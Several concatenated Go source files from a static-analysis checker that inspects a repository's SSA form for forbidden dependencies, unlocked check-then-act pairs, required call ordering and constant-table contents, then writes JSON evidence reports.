	r.add(Obligation{Key: key, Rule: rule, Pos: pos, Status: Undecided, Detail: detail, NonTrivial: true})
}
func (r *Report) Lost(key, rule, detail string) {
	r.add(Obligation{Key: key, Rule: rule, Status: AnchorLost, Detail: detail, NonTrivial: true})
}

// KnownFindings file format.
type KnownFinding struct {
	Property string `json:"property"`
	Key      string `json:"key"`
	What     string `json:"what"`
}
type FixedFinding struct {
	Property string `json:"property"`
	Commit   string `json:"commit"`
	Key      string `json:"key,omitempty"`
	What     string `json:"what"`
}
type KnownFile struct {
	Open  []KnownFinding `json:"open"`
	Fixed []FixedFinding `json:"fixed"`
}

func loadKnown(verifDir string) KnownFile {
	var k KnownFile
	b, err := os.ReadFile(filepath.Join(verifDir, "known_findings.json"))
	if err == nil {
		_ = json.Unmarshal(b, &k)
	}
	return k
}

// Finish writes the evidence file, prints diagnostics and returns the exit code.
func (r *Report) Finish(verifDir string, seed int) int {
	known := loadKnown(verifDir)
	knownSet := map[string]string{}
	for _, k := range known.Open {
		if k.Property == r.Prop {
			knownSet[k.Key] = k.What
		}
	}
	sort.SliceStable(r.Obls, func(i, j int) bool { return r.Obls[i].Key < r.Obls[j].Key })
	evDir := filepath.Join(verifDir, "evidence")
	_ = os.MkdirAll(evDir, 0o755)
	replayDir := filepath.Join(evDir, r.Prop+".replay")
	_ = os.RemoveAll(replayDir)

	nViol, nDis, nNon := 0, 0, 0
	var lines []string
	var violList []Obligation
	for i := range r.Obls {
		o := &r.Obls[i]
		if o.NonTrivial {
			nNon++
		}
		switch o.Status {
		case Discharged:
			nDis++
		case Violated:
			if what, ok := knownSet[o.Key]; ok {
				o.Status = Known
				lines = append(lines, fmt.Sprintf("KNOWN-FINDING: property=%s %s — %s [%s]", r.Prop, o.Key, what, o.Pos))
				continue
			}
			fallthrough
		case Undecided, AnchorLost:
			nViol++
			violList = append(violList, *o)
		}
	}
	if len(violList) > 0 {
		_ = os.MkdirAll(replayDir, 0o755)
	}
	for i, o := range violList {
		path := filepath.Join(replayDir, fmt.Sprintf("%d.json", i+1))
		b, _ := json.MarshalIndent(map[string]any{"property": r.Prop, "obligation": o, "how_to_replay": fmt.Sprintf("cd /verif && ./check %s   # re-analyses /repo; the obligation key identifies the construct", r.Prop)}, "", " ")
		_ = os.WriteFile(path, b, 0o644)
		fmt.Printf("%s: [%s] %s\n    %s\n    %s\n", strings.ToUpper(string(o.Status)), o.Key, o.Pos, o.Rule, o.Detail)
		lines = append(lines, fmt.Sprintf("VIOLATION property=%s replay=%s", r.Prop, path))
	}
	for _, l := range lines {
		fmt.Println(l)
	}

	// samples: up to 8 non-trivial discharged obligations + all non-discharged
	var samples []any
	cnt := 0
	for _, o := range r.Obls {
		if o.Status != Discharged {
			samples = append(samples, o)
		} else if o.NonTrivial && cnt < 8 {
			samples = append(samples, o)
			cnt++
		}
	}
	if len(samples) == 0 && len(r.Obls) > 0 {
		samples = append(samples, r.Obls[0])
	}
	cov := map[string]any{
		"explanation":         r.Explanation,
		"obligations":         len(r.Obls),
		"discharged":          nDis,
		"evaluations":         r.Sites,
		"distinct_nontrivial": nNon,
		"rule":                "one obligation per (rule instance, construct) pair, enumerated from the resolved program of /repo's working tree; an obligation is non-trivial when deciding it needed a path, ownership or table argument over the program rather than a single constant lookup; evaluations = program sites (call sites, branches, literals, returns) examined",
		"samples":             samples,
		"checker_cmd":         fmt.Sprintf("/verif/check %s %s", r.Prop, r.Tier),
		"trusted_base":        append([]string{"go/types + go/ssa (golang.org/x/tools v0.29.0) model of the program", "rule-instance tables in /verif/checker/props"}, r.Trusted...),
		"not_decided":         r.NotDecided,
		"exhaustive":          true,
		"all_obligations":     r.Obls,
	}
	if r.P != nil {
		cov["packages"] = len(r.P.Pkgs)
		cov["functions_in_program"] = len(r.P.Funcs)
		cov["build_tags"] = r.P.Tags
		cov["whole_program"] = r.P.Whole
		rb := Rebindings
		if rb == nil {
			rb = []string{}
		}
		cov["anchor_rebindings"] = rb
	}
	for k, v := range r.Extra {
		cov[k] = v
	}
	if r.Assumptions == nil {
		r.Assumptions = []string{}
	}
	if r.NotDecided == nil {
		r.NotDecided = []string{}
	}
	ev := map[string]any{
		"property_id": r.Prop,
		"tier":        r.Tier,
		"seed":        seed,
		"level":       "other",
		"coverage":    cov,
		"assumptions": r.Assumptions,
		"wall_s":      time.Since(r.start).Seconds(),
		"violations":  nViol,
	}
	b, _ := json.MarshalIndent(ev, "", " ")
	if err := os.WriteFile(filepath.Join(evDir, r.Prop+".json"), b, 0o644); err != nil {
		fmt.Println("cannot write evidence:", err)
		return 2
	}
	fmt.Printf("%s %s: obligations=%d discharged=%d known=%d failing=%d sites=%d wall=%.1fs\n", r.Prop, r.Tier, len(r.Obls), nDis, len(r.Obls)-nDis-nViol, nViol, r.Sites, time.Since(r.start).Seconds())
	if nViol > 0 {
		return 1
	}
	return 0
}
