package an

import (
	"fmt"
	"os"
	"path/filepath"

	"golang.org/x/tools/go/packages"
	"golang.org/x/tools/go/ssa"
	"golang.org/x/tools/go/ssa/ssautil"
)

// FixtureDir is where the positive-control packages live.
var FixtureDir = "/verif/fixtures"

// LoadFixture loads /verif/fixtures/<name> (std-only package) into a small program of its own.
func LoadFixture(name string) (*Prog, error) {
	dir := FixtureDir
	cfg := &packages.Config{Mode: packages.LoadSyntax, Dir: dir, Env: append(os.Environ(), "GOWORK=off", "GOFLAGS=-mod=mod", "GOPROXY=off", "GOSUMDB=off", "GOTOOLCHAIN=local")}
	pkgs, err := packages.Load(cfg, "./"+name)
	if err != nil {
		return nil, err
	}
	if len(pkgs) != 1 || len(pkgs[0].Errors) > 0 {
		return nil, fmt.Errorf("fixture %s: %d packages, errors %v", name, len(pkgs), pkgs[0].Errors)
	}
	p := &Prog{Root: filepath.Join(dir), Pkgs: pkgs, ByPath: map[string]*packages.Package{}, SSAPkgs: map[string]*ssa.Package{}}
	p.Fset = pkgs[0].Fset
	var spkgs []*ssa.Package
	p.SSA, spkgs = ssautil.Packages(pkgs, ssa.InstantiateGenerics)
	p.SSA.Build()
	for _, sp := range spkgs {
		p.SSAPkgs[sp.Pkg.Path()] = sp
	}
	for fn := range ssautil.AllFunctions(p.SSA) {
		if fn.Blocks != nil && p.SSAPkgs[funcPkgPath(fn)] != nil && fn.Synthetic == "" {
			p.Funcs = append(p.Funcs, fn)
		}
	}
	return p, nil
}

// FixtureFunc finds a package-level function by name in a fixture program.
func (p *Prog) FixtureFunc(name string) *ssa.Function {
	for _, sp := range p.SSAPkgs {
		if f := sp.Func(name); f != nil {
			return f
		}
	}
	return nil
}
