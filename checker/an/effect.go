package an

import (
	"fmt"
	"go/types"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

// EFFECT: the transitive callees of a function (module functions are followed through static calls, closures and
// module-interface invokes resolved by method name + implementation; dependency functions are leaves classified by
// package) contain no function of a denied package.

type EffectSpec struct {
	ID    string
	Fn    *ssa.Function
	Deny  []string // package path prefixes (e.g. "net/http", "net", "gorm.io/")
	DenyF []string // fully qualified functions (e.g. "time.Now")
	What  string
}

func (r *Report) Effect(s EffectSpec) {
	rule := "EFFECT: " + s.What + " — no transitive callee in {" + strings.Join(append(append([]string{}, s.Deny...), s.DenyF...), ", ") + "}"
	if s.Fn == nil {
		r.Lost(s.ID, rule, "anchored function not found")
		return
	}
	key := s.ID + " @ " + r.P.FuncName(s.Fn)
	p := r.P
	seen := map[*ssa.Function]bool{}
	type hit struct{ path, callee string }
	var hits []hit
	var visit func(f *ssa.Function, path []string)
	denied := func(pkg, full string) bool {
		for _, d := range s.Deny {
			if pkg == d || strings.HasPrefix(pkg, d+"/") || (strings.HasSuffix(d, "/") && strings.HasPrefix(pkg, d)) {
				return true
			}
		}
		for _, d := range s.DenyF {
			if full == d {
				return true
			}
		}
		return false
	}
	visit = func(f *ssa.Function, path []string) {
		if f == nil || seen[f] || len(path) > 12 {
			return
		}
		seen[f] = true
		path = append(path, p.FuncName(f))
		for _, a := range f.AnonFuncs {
			visit(a, path)
		}
		for _, b := range f.Blocks {
			for _, in := range b.Instrs {
				ci, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				cc := ci.Common()
				var callees []*ssa.Function
				if sc := cc.StaticCallee(); sc != nil {
					callees = append(callees, sc)
				} else if cc.IsInvoke() {
					// module interface: all module implementations
					if n := recvNamed(cc.Value.Type()); n != nil && n.Obj().Pkg() != nil && strings.HasPrefix(n.Obj().Pkg().Path(), ModPath) {
						it, _ := n.Underlying().(*types.Interface)
						for _, mf := range p.Funcs {
							if mf.Signature.Recv() == nil || mf.Name() != cc.Method.Name() || mf.Parent() != nil {
								continue
							}
							rt := mf.Signature.Recv().Type()
							if it != nil && (types.Implements(rt, it) || types.Implements(types.NewPointer(rt), it)) && p.FileClass(p.FuncPos(mf)) == "prod" {
								callees = append(callees, mf)
							}
						}
					} else if cc.Method != nil && cc.Method.Pkg() != nil {
						// dependency interface: classify by the interface's package
						if denied(cc.Method.Pkg().Path(), cc.Method.Pkg().Path()+"."+cc.Method.Name()) {
							hits = append(hits, hit{strings.Join(path, " → "), cc.Method.FullName()})
						}
					}
				}
				for _, c := range callees {
					if p.InModule(c) && c.Blocks != nil {
						visit(c, path)
						continue
					}
					pkg := ""
					if c.Pkg != nil {
						pkg = c.Pkg.Pkg.Path()
					} else if o := c.Origin(); o != nil && o.Pkg != nil {
						pkg = o.Pkg.Pkg.Path()
					} else if c.Object() != nil && c.Object().Pkg() != nil {
						pkg = c.Object().Pkg().Path()
					}
					if denied(pkg, pkg+"."+c.Name()) {
						hits = append(hits, hit{strings.Join(path, " → "), c.String()})
					}
				}
			}
		}
	}
	visit(s.Fn, nil)
	r.Sites += len(seen)
	if len(hits) > 0 {
		sort.Slice(hits, func(i, j int) bool { return hits[i].callee < hits[j].callee })
		r.Bad(key, rule, p.Pos(s.Fn.Pos()), fmt.Sprintf("reaches %s via %s", hits[0].callee, hits[0].path))
		return
	}
	r.OK(key, rule, p.Pos(s.Fn.Pos()), fmt.Sprintf("%d module functions traversed, no denied callee", len(seen)), true)
}
