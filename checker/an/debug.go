package an

import (
	"fmt"
	"strings"

	"golang.org/x/tools/go/ssa"
)

// DumpCalls prints, for the function "pkg,Recv,name" (and its closures), each call with the resolved callee in Fn() notation.
// With spec "callers:pkg,Recv,name" prints the module-wide call sites of that callee instead.
func (p *Prog) DumpCalls(spec string) {
	if strings.HasPrefix(spec, "callers:") {
		parts := strings.Split(strings.TrimPrefix(spec, "callers:"), ",")
		for _, s := range p.CallSites(p.FnOrImpl(parts[0], parts[1], parts[2]), true) {
			fmt.Printf("%s  %s  [%s] %s\n", p.Pos(s.Pos), p.FuncName(s.Fn), p.FileClass(p.FuncPos(s.Fn)), s.Note)
		}
		return
	}
	parts := strings.Split(spec, ",")
	fn := p.Func(parts[0], parts[1], parts[2])
	if fn == nil {
		fmt.Println("not found")
		return
	}
	for _, f := range WithAnons(fn) {
		fmt.Printf("== %s\n", p.FuncName(f))
		for _, b := range f.Blocks {
			for _, in := range b.Instrs {
				ci, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				cf := calleeFunc(ci.Common())
				if cf == nil {
					fmt.Printf("  %s  dynamic %s\n", p.Pos(in.Pos()), ci.Common().Value.Type())
					continue
				}
				recv := ""
				if sig := cf.Signature(); sig.Recv() != nil {
					if n := recvNamed(sig.Recv().Type()); n != nil {
						recv = n.Obj().Name()
					}
				}
				pk := ""
				if cf.Pkg() != nil {
					pk = strings.TrimPrefix(strings.TrimPrefix(cf.Pkg().Path(), ModPath), "/")
				}
				fmt.Printf("  %s  Fn(%q, %q, %q)\n", p.Pos(in.Pos()), pk, recv, cf.Name())
			}
		}
	}
}
