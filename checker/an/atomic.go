package an

import (
	"fmt"
	"strings"

	"golang.org/x/tools/go/ssa"
)

// ATOMIC: a read of a shared store followed (on some path) by a dependent write of the same store in one function is a
// check-then-act pair. It is atomic only if a mutex is held across both. (A single backend operation has no pair.)

type AtomicSpec struct {
	ID     string
	Fn     *ssa.Function
	Reads  []Callee
	Writes []Callee
	What   string
}

func isLockCall(cc *ssa.CallCommon, names ...string) bool {
	f := cc.StaticCallee()
	if f == nil || f.Pkg == nil || f.Pkg.Pkg.Path() != "sync" {
		return false
	}
	for _, n := range names {
		if f.Name() == n {
			return true
		}
	}
	return false
}

// Atomic reports a violation for each unprotected read→write pair; returns the number of pairs found.
func (r *Report) Atomic(s AtomicSpec) int {
	rule := "ATOMIC: no unlocked read-then-write (check-then-act) pair on " + s.What
	if s.Fn == nil {
		r.Lost(s.ID, rule, "anchored function not found")
		return 0
	}
	key := s.ID + " @ " + r.P.FuncName(s.Fn)
	var reads, writes []ssa.CallInstruction
	for _, c := range s.Reads {
		reads = append(reads, Calls(s.Fn, c)...)
	}
	for _, c := range s.Writes {
		writes = append(writes, Calls(s.Fn, c)...)
	}
	r.Sites += len(reads) + len(writes)
	type pair struct{ r, w ssa.CallInstruction }
	var pairs []pair
	for _, rd := range reads {
		reach := Reach(rd.Block(), nil, nil)
		for _, wr := range writes {
			after := false
			if wr.Block() == rd.Block() {
				after = InstrDominates(rd, wr) && rd != wr
				if !after {
					// loop: the block can reach itself
					for _, s := range rd.Block().Succs {
						if Reach(s, nil, nil)[rd.Block()] {
							after = true
						}
					}
				}
			} else {
				after = reach[wr.Block()]
			}
			if after {
				pairs = append(pairs, pair{rd, wr})
			}
		}
	}
	if len(pairs) == 0 {
		r.OK(key, rule, r.P.Pos(s.Fn.Pos()), fmt.Sprintf("no read→write pair (reads=%d writes=%d): the operation is a single store primitive or one-directional", len(reads), len(writes)), true)
		return 0
	}
	// lock discipline: a Lock() dominating the read, and an Unlock that is deferred or dominated by the write
	var bad []string
	for _, pr := range pairs {
		locked := false
		for _, b := range s.Fn.Blocks {
			for _, in := range b.Instrs {
				ci, ok := in.(ssa.CallInstruction)
				if !ok || !isLockCall(ci.Common(), "Lock") {
					continue
				}
				if _, isDefer := in.(*ssa.Defer); isDefer {
					continue
				}
				if !InstrDominates(in, pr.r) {
					continue
				}
				// find the unlock
				for _, b2 := range s.Fn.Blocks {
					for _, in2 := range b2.Instrs {
						ci2, ok := in2.(ssa.CallInstruction)
						if !ok || !isLockCall(ci2.Common(), "Unlock") {
							continue
						}
						if _, isDefer := in2.(*ssa.Defer); isDefer && InstrDominates(in2, pr.r) {
							locked = true
						} else if InstrDominates(pr.w, in2) {
							locked = true
						}
					}
				}
			}
		}
		if !locked {
			bad = append(bad, fmt.Sprintf("%s at %s then %s at %s with no mutex held across both: two concurrent callers can both complete the read before either write", calleeDesc(pr.r.Common()), r.P.Pos(pr.r.Pos()), calleeDesc(pr.w.Common()), r.P.Pos(pr.w.Pos())))
		}
	}
	if len(bad) > 0 {
		r.Bad(key, rule, r.P.Pos(pairs[0].r.Pos()), strings.Join(bad, "; "))
		return len(pairs)
	}
	r.OK(key, rule, r.P.Pos(s.Fn.Pos()), fmt.Sprintf("%d read→write pair(s), all under a mutex", len(pairs)), true)
	return len(pairs)
}

// MustReach: from every edge on which Cond holds, every path to a function exit passes a call matching Target.
type MustReach struct {
	ID     string
	Fn     *ssa.Function
	Cond   Check
	Target Callee
	Min    int
	// SuccessOnly: only returns whose error result may be nil count as exits (failure returns may skip the target)
	SuccessOnly bool
	// TargetOK optionally restricts the target call sites (e.g. by argument)
	TargetOK func(ci ssa.CallInstruction) bool
	// After: instead of a condition, the starting points are the calls of this callee ("once X was called, every path
	// to an exit also calls Target")
	After *Callee
}

func (r *Report) MustReach(s MustReach) {
	rule := fmt.Sprintf("ORDER: whenever [%s] holds, every path to an exit calls %s", s.Cond.Desc, s.Target.Desc)
	if s.Fn == nil {
		r.Lost(s.ID, rule, "anchored function not found")
		return
	}
	if s.After != nil {
		r.mustReachAfter(s)
		return
	}
	key := s.ID + " @ " + r.P.FuncName(s.Fn)
	g := &Gate{Fn: s.Fn, Check: Check{NoTail: true}}
	run := &gateRun{p: r.P, fn: s.Fn, g: g, checkVals: map[ssa.Value]Polarity{}, passEdges: EdgeSet{}}
	edges := EdgeSet{}
	run.findPassEdges(s.Cond, edges)
	targets := Calls(s.Fn, s.Target)
	if s.TargetOK != nil {
		var keep []ssa.CallInstruction
		for _, t := range targets {
			if s.TargetOK(t) {
				keep = append(keep, t)
			}
		}
		targets = keep
	}
	r.Sites += len(edges) + len(targets)
	min := s.Min
	if min == 0 {
		min = 1
	}
	if len(edges) < min {
		r.Bad(key, rule, r.P.Pos(s.Fn.Pos()), fmt.Sprintf("condition [%s] found on %d branches (expected >= %d)", s.Cond.Desc, len(edges), min))
		return
	}
	if len(targets) == 0 {
		r.Bad(key, rule, r.P.Pos(s.Fn.Pos()), "target call not found")
		return
	}
	blocked := map[*ssa.BasicBlock]bool{}
	for _, t := range targets {
		blocked[t.Block()] = true
	}
	var bad []string
	for e := range edges {
		if blocked[e.To()] {
			continue
		}
		reach := Reach(e.To(), nil, blocked)
		for b := range reach {
			if len(b.Succs) == 0 { // exit block (return / panic)
				if ret, isRet := b.Instrs[len(b.Instrs)-1].(*ssa.Return); isRet {
					if s.SuccessOnly && len(ret.Results) > 0 && r.P.errStateAt(ret.Results[len(ret.Results)-1], b, 0) == stNonNil {
						continue
					}
					bad = append(bad, fmt.Sprintf("return at %s is reachable from the branch at %s without calling %s", r.P.Pos(b.Instrs[len(b.Instrs)-1].Pos()), r.P.Pos(blockPos(e.From)), s.Target.Desc))
				}
			}
		}
	}
	if len(bad) > 0 {
		r.Bad(key, rule, r.P.Pos(s.Fn.Pos()), strings.Join(uniqStrings(sortStrings(bad)), "; "))
		return
	}
	r.OK(key, rule, r.P.Pos(s.Fn.Pos()), fmt.Sprintf("%d condition edge(s), target post-dominates them", len(edges)), true)
}

func sortStrings(s []string) []string {
	out := append([]string{}, s...)
	for i := range out {
		for j := i + 1; j < len(out); j++ {
			if out[j] < out[i] {
				out[i], out[j] = out[j], out[i]
			}
		}
	}
	return out
}

func (r *Report) mustReachAfter(s MustReach) {
	rule := fmt.Sprintf("ORDER: once %s was called, every path to an exit calls %s", s.After.Desc, s.Target.Desc)
	key := s.ID + " @ " + r.P.FuncName(s.Fn)
	starts := Calls(s.Fn, *s.After)
	targets := Calls(s.Fn, s.Target)
	if s.TargetOK != nil {
		var keep []ssa.CallInstruction
		for _, t := range targets {
			if s.TargetOK(t) {
				keep = append(keep, t)
			}
		}
		targets = keep
	}
	r.Sites += len(starts) + len(targets)
	min := s.Min
	if min == 0 {
		min = 1
	}
	if len(starts) < min {
		r.Lost(key, rule, fmt.Sprintf("%d call(s) of %s (expected >= %d)", len(starts), s.After.Desc, min))
		return
	}
	if len(targets) == 0 {
		r.Bad(key, rule, r.P.Pos(s.Fn.Pos()), "target call not found")
		return
	}
	blocked := map[*ssa.BasicBlock]bool{}
	for _, t := range targets {
		blocked[t.Block()] = true
	}
	var bad []string
	for _, st := range starts {
		// a target later in the same block settles this start
		later := false
		seen := false
		for _, in := range st.Block().Instrs {
			if in == ssa.Instruction(st) {
				seen = true
				continue
			}
			if !seen {
				continue
			}
			for _, t := range targets {
				if in == ssa.Instruction(t) {
					later = true
				}
			}
		}
		if later {
			continue
		}
		for _, succ := range st.Block().Succs {
			if blocked[succ] {
				continue
			}
			for b := range Reach(succ, nil, blocked) {
				if len(b.Succs) != 0 {
					continue
				}
				ret, isRet := b.Instrs[len(b.Instrs)-1].(*ssa.Return)
				if !isRet {
					continue
				}
				if s.SuccessOnly && len(ret.Results) > 0 && r.P.errStateAt(ret.Results[len(ret.Results)-1], b, 0) == stNonNil {
					continue
				}
				bad = append(bad, fmt.Sprintf("return at %s is reachable after the call at %s without calling %s", r.P.Pos(ret.Pos()), r.P.Pos(st.Pos()), s.Target.Desc))
			}
		}
		if len(st.Block().Succs) == 0 {
			if _, isRet := st.Block().Instrs[len(st.Block().Instrs)-1].(*ssa.Return); isRet {
				bad = append(bad, fmt.Sprintf("the function returns right after the call at %s without calling %s", r.P.Pos(st.Pos()), s.Target.Desc))
			}
		}
	}
	if len(bad) > 0 {
		r.Bad(key, rule, r.P.Pos(s.Fn.Pos()), strings.Join(uniqStrings(sortStrings(bad)), "; "))
		return
	}
	r.OK(key, rule, r.P.Pos(s.Fn.Pos()), fmt.Sprintf("%d start call(s), the target post-dominates them", len(starts)), true)
}
