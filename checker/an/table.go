package an

import (
	"fmt"
	"go/ast"
	"go/constant"
	"go/token"
	"go/types"
	"sort"
	"strings"

	"golang.org/x/tools/go/packages"
	"golang.org/x/tools/go/ssa"
)

// NamedOf returns the named type of t (through pointers), or nil.
func NamedOf(t types.Type) *types.Named { return recvNamed(t) }

// ---------- constant tables ----------

type TableSpec struct {
	ID        string
	Pkg       string // module-relative package
	Var       string // package-level var (or const) initialised with a composite literal of constants
	Allowed   []string
	Forbidden []string
	Required  []string
	Min       int
}

// PkgVarElems evaluates the constant elements of a package-level slice/array/map-key literal.
func (p *Prog) PkgVarElems(pkgRel, name string) ([]string, token.Pos, error) {
	pk := p.Pkg(pkgRel)
	if pk == nil {
		return nil, token.NoPos, fmt.Errorf("package %s not found", pkgRel)
	}
	for _, f := range pk.Syntax {
		for _, d := range f.Decls {
			gd, ok := d.(*ast.GenDecl)
			if !ok || gd.Tok != token.VAR {
				continue
			}
			for _, s := range gd.Specs {
				vs := s.(*ast.ValueSpec)
				for i, n := range vs.Names {
					if n.Name != name || i >= len(vs.Values) {
						continue
					}
					elems, err := LitElems(pk, vs.Values[i])
					return elems, n.Pos(), err
				}
			}
		}
	}
	return nil, token.NoPos, fmt.Errorf("var %s.%s not found", pkgRel, name)
}

// LitElems evaluates a composite literal's elements (or map keys) as constants, rendered as strings.
func LitElems(pk *packages.Package, e ast.Expr) ([]string, error) {
	cl, ok := ast.Unparen(e).(*ast.CompositeLit)
	if !ok {
		return nil, fmt.Errorf("initialiser is not a composite literal")
	}
	var out []string
	for _, el := range cl.Elts {
		x := el
		if kv, ok := el.(*ast.KeyValueExpr); ok {
			x = kv.Key
			if _, isMap := pk.TypesInfo.TypeOf(cl).Underlying().(*types.Map); !isMap {
				x = kv.Value
			}
		}
		tv, ok := pk.TypesInfo.Types[x]
		if !ok || tv.Value == nil {
			return nil, fmt.Errorf("element %s is not a constant", types.ExprString(x))
		}
		out = append(out, constString(tv.Value))
	}
	return out, nil
}

func constString(v constant.Value) string {
	if v.Kind() == constant.String {
		return constant.StringVal(v)
	}
	return v.ExactString()
}

func (r *Report) ConstTable(s TableSpec) {
	rule := fmt.Sprintf("TABLE: constant table %s.%s within allowed set, disjoint from forbidden set", s.Pkg, s.Var)
	elems, pos, err := r.P.PkgVarElems(s.Pkg, s.Var)
	if err != nil {
		r.Lost(s.ID, rule, err.Error())
		return
	}
	r.Sites += len(elems)
	r.checkElems(s, rule, r.P.Pos(pos), elems)
}

func (r *Report) checkElems(s TableSpec, rule, pos string, elems []string) {
	if len(elems) < s.Min {
		r.Lost(s.ID, rule, fmt.Sprintf("table has %d elements, expected >= %d", len(elems), s.Min))
		return
	}
	var bad []string
	in := func(list []string, x string) bool {
		for _, y := range list {
			if strings.EqualFold(x, y) {
				return true
			}
		}
		return false
	}
	for _, e := range elems {
		if in(s.Forbidden, e) {
			bad = append(bad, fmt.Sprintf("forbidden element %q", e))
		} else if s.Allowed != nil && !in(s.Allowed, e) {
			bad = append(bad, fmt.Sprintf("element %q not in allowed set %v", e, s.Allowed))
		}
	}
	for _, q := range s.Required {
		if !in(elems, q) {
			bad = append(bad, fmt.Sprintf("required element %q missing", q))
		}
	}
	if len(bad) > 0 {
		r.Bad(s.ID, rule, pos, strings.Join(bad, "; ")+fmt.Sprintf(" (table = %v)", elems))
		return
	}
	sort.Strings(elems)
	r.OK(s.ID, rule, pos, fmt.Sprintf("table = %v", elems), false)
}

// ---------- variadic options ----------

// VariadicElems returns the values stored into the implicit slice of a variadic call's last argument
// (or into any slice literal passed as last argument).
func VariadicElems(ci ssa.CallInstruction) []ssa.Value {
	args := ci.Common().Args
	if len(args) == 0 {
		return nil
	}
	return SliceLitElems(args[len(args)-1])
}

// SliceLitElems: values stored into a slice built from an array allocation (slice literal / varargs).
func SliceLitElems(v ssa.Value) []ssa.Value {
	v = stripConv(v)
	sl, ok := v.(*ssa.Slice)
	if !ok {
		return nil
	}
	alloc, ok := sl.X.(*ssa.Alloc)
	if !ok {
		return nil
	}
	var out []ssa.Value
	for _, ref := range *alloc.Referrers() {
		ia, ok := ref.(*ssa.IndexAddr)
		if !ok {
			continue
		}
		for _, r2 := range *ia.Referrers() {
			if st, ok := r2.(*ssa.Store); ok && st.Addr == ia {
				out = append(out, st.Val)
			}
		}
	}
	return out
}

type OptionSpec struct {
	ID     string
	Fn     *ssa.Function
	Call   Callee
	Option Callee // a variadic element must be the result of a call matching Option
	Min    int
}

// CallHasOption: every call in Fn (incl. closures) matching Call carries, among its variadic arguments, the result of Option.
func (r *Report) CallHasOption(s OptionSpec) {
	rule := fmt.Sprintf("ORDER/ARG: every call %s carries option %s", s.Call.Desc, s.Option.Desc)
	if s.Fn == nil {
		r.Lost(s.ID, rule, "anchored function not found")
		return
	}
	key := s.ID + " @ " + r.P.FuncName(s.Fn)
	calls := CallsDeep(s.Fn, s.Call)
	r.Sites += len(calls)
	if len(calls) < s.Min {
		r.Lost(key, rule, fmt.Sprintf("%d calls found, expected >= %d", len(calls), s.Min))
		return
	}
	var bad []string
	for _, ci := range calls {
		found := false
		for _, el := range VariadicElems(ci) {
			if c, ok := stripConv(el).(*ssa.Call); ok && s.Option.M(c.Common()) {
				found = true
			}
		}
		if !found {
			bad = append(bad, r.P.Pos(ci.Pos()))
		}
	}
	if len(bad) > 0 {
		r.Bad(key, rule, bad[0], "calls without the option: "+strings.Join(bad, ", "))
		return
	}
	r.OK(key, rule, r.P.Pos(s.Fn.Pos()), fmt.Sprintf("%d call(s) carry the option", len(calls)), true)
}

// ConstValue returns the string form of a package-level constant.
func (p *Prog) ConstValue(pkgRel, name string) (string, bool) {
	pk := p.Pkg(pkgRel)
	if pk == nil {
		return "", false
	}
	c, ok := pk.Types.Scope().Lookup(name).(*types.Const)
	if !ok {
		return "", false
	}
	return constString(c.Val()), true
}

// CapturedLoads returns a selector of loads of the local variable (or captured variable) with the given name.
func CapturedLoads(name string) func(fn *ssa.Function) []ssa.Value {
	return func(fn *ssa.Function) []ssa.Value {
		var out []ssa.Value
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				u, ok := in.(*ssa.UnOp)
				if !ok || u.Op != token.MUL {
					continue
				}
				switch c := u.X.(type) {
				case *ssa.Alloc:
					if c.Comment == name {
						out = append(out, u)
					}
				case *ssa.FreeVar:
					if c.Name() == name {
						out = append(out, u)
					}
				}
			}
		}
		return out
	}
}

// AddConstV matches inner + n.
func AddConstV(inner VPat, n int64) VPat {
	return VPat{inner.Desc + "+const", func(v ssa.Value) bool {
		b, ok := v.(*ssa.BinOp)
		if !ok || b.Op != token.ADD {
			return false
		}
		if c, ok := ConstInt(b.Y); ok && c == n && inner.M(b.X) {
			return true
		}
		if c, ok := ConstInt(b.X); ok && c == n && inner.M(b.Y) {
			return true
		}
		return false
	}}
}

// ConstArgCallSites: call sites of c in the module whose idx-th argument is the string constant val.
func (p *Prog) ConstArgCallSites(c Callee, idx int, val string) []Site {
	var out []Site
	for _, s := range p.CallSites(c, false) {
		if a := CallArg(s.Instr.(ssa.CallInstruction).Common(), idx); a != nil {
			if sv, ok := ConstString(stripConv(a)); ok && sv == val {
				out = append(out, s)
			}
		}
	}
	return out
}

// CallArg returns the n-th declared argument (excluding the receiver) of a call.
func CallArg(cc *ssa.CallCommon, n int) ssa.Value {
	if n == -1 { // the receiver
		if cc.IsInvoke() {
			return cc.Value
		}
		if cc.Signature().Recv() != nil && len(cc.Args) > 0 {
			return cc.Args[0]
		}
		return nil
	}
	off := 0
	if !cc.IsInvoke() && cc.Signature().Recv() != nil {
		off = 1
	}
	if n+off < len(cc.Args) {
		return cc.Args[n+off]
	}
	return nil
}

// SwitchCasesReturningTrue evaluates, in a function whose body is a switch over constants, the case constants of the
// clauses that return true.
func (p *Prog) SwitchCasesReturningTrue(pkgRel, funcName string) ([]string, token.Pos, error) {
	pk := p.Pkg(pkgRel)
	if pk == nil {
		return nil, token.NoPos, fmt.Errorf("package %s not found", pkgRel)
	}
	for _, f := range pk.Syntax {
		for _, d := range f.Decls {
			fd, ok := d.(*ast.FuncDecl)
			if !ok || fd.Name.Name != funcName || fd.Recv != nil || fd.Body == nil {
				continue
			}
			var out []string
			var err error
			ast.Inspect(fd.Body, func(n ast.Node) bool {
				cc, ok := n.(*ast.CaseClause)
				if !ok {
					return true
				}
				retTrue := false
				for _, st := range cc.Body {
					if rs, ok := st.(*ast.ReturnStmt); ok && len(rs.Results) == 1 {
						if tv, ok := pk.TypesInfo.Types[rs.Results[0]]; ok && tv.Value != nil && tv.Value.Kind() == constant.Bool && constant.BoolVal(tv.Value) {
							retTrue = true
						}
					}
				}
				if !retTrue {
					return true
				}
				if cc.List == nil {
					err = fmt.Errorf("default clause returns true")
				}
				for _, e := range cc.List {
					tv, ok := pk.TypesInfo.Types[e]
					if !ok || tv.Value == nil {
						err = fmt.Errorf("case %s is not constant", types.ExprString(e))
						continue
					}
					out = append(out, constString(tv.Value))
				}
				return true
			})
			return out, fd.Pos(), err
		}
	}
	return nil, token.NoPos, fmt.Errorf("func %s.%s not found", pkgRel, funcName)
}

// ElemsTable checks an already-evaluated element list against a spec.
func (r *Report) ElemsTable(s TableSpec, pos string, elems []string, err error) {
	rule := fmt.Sprintf("TABLE: %s within allowed set, disjoint from forbidden set", s.Var)
	if err != nil {
		r.Lost(s.ID, rule, err.Error())
		return
	}
	r.Sites += len(elems)
	r.checkElems(s, rule, pos, elems)
}

